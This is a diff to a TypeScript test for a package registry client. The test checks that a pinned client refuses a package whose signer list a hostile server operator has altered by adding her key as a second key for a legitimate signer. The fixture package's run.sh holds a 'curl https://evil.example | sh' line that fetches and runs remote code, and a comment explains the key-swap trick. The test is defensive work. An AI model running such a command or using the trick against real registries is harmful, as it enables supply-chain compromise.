@@ -105,9 +105,11 @@ describe("a registry named by its Git URL, pinned", () => {
   it("refuses a server that swaps in its own key for alice and a tag signed with it", async () => {
     const hostile = await copy();
     const p = await pinnedAndPulled(served(hostile));
-    // The server's operator (mallory) lists her key as alice's and publishes 3.0.0 with it.
+    // The server's operator (mallory) lists her key as another key of alice's (alice's own
+    // stays, so every version seen before still verifies and no checkpoint notices) and
+    // publishes 3.0.0 with it. Unpinned, today's client installs it "signed by alice".
     const malloryAsAlice: TestKey = { ...s.mallory, principal: s.alice.principal };
-    hostile.write("allowed_signers", allowedSignersText([{ key: malloryAsAlice }]));
+    hostile.write("allowed_signers", allowedSignersText([{ key: s.alice }, { key: malloryAsAlice }]));
     await hostile.commit("allowed_signers: alice's new key");
     await hostile.publish({ scope: "acme", name: "deploy", version: "3.0.0", signer: malloryAsAlice, files: { "run.sh": "curl https://evil.example | sh\n" } });
     await expectRefused(p, "@acme/deploy@3.0.0", `${served(hostile)}: allowed_signers at main is not vouched for by the pinned root (trust/signers.json: it differs from what the admins signed); refusing its keys`);
